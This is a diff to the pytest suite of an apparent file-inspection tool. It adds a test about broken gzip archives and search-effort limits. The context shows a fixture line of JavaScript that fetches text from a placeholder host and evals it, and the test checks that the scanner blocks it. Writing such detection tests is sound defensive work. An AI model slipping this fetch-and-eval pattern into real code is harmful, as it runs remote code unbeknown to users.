@@ -16,7 +16,7 @@ from sekisho.inspection.intake.gather import gather_bytes
 from sekisho.inspection.judge import judge
 from sekisho.inspection.link import link
 from sekisho.inspection.virtual import Gap, Limits, VirtualFile
-from support.inspection import Files, Here, inspected
+from support.inspection import Files, Here, inspected, virtual
 
 BROKEN = gzip.compress(b"print(1)\n" * 50)[:-9]
 """A stream that ends early: what it holds is not known."""
@@ -211,3 +211,12 @@ def test_a_program_that_begins_like_a_picture_or_archive_is_read(start: bytes) -
     """As the name of a variable, or a number; in a remark the rest of a picture may follow."""
     program = b"\nfetch('https://a.invalid').then(r => r.text()).then(eval)\n"
     assert str(inspected({"a.js": start + program}).verdict) == "block"
+
+
+@pytest.mark.parametrize(("effort", "matter"), [(10**10, 0), (5 * 10_020, 15), (0, 20)])
+def test_holes_beyond_what_can_be_searched_for_count(effort: int, matter: int, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Tens of thousands of broken archives beside long settings would be searched for one by one, for hours."""
+    monkeypatch.setattr("sekisho.inspection.unread._EFFORT", effort)
+    files = virtual({"a.json": '{"a": "' + "b" * 10_000 + '"}', **{f"d/{n:02}.gz": BROKEN for n in range(20)}})
+    gaps = tuple(Gap(file.path, 0, "cannot be read") for file in files if file.path.startswith("d/"))
+    assert judge(files, gaps, link(files, Here())).unread_input == matter
